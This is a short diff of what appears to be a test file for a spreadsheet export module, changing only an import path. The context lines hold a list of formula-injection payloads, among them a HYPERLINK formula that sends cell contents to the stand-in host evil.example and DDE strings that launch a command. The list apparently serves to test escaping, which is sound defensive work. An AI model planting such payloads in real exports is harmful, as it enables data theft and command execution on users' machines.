@@ -17,7 +17,7 @@ from exports.xlsx import (
     safe_sheet_title,
     write_xlsx,
 )
-from models.errors import Cancelled
+from models.core.errors import Cancelled
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "#N/A"]
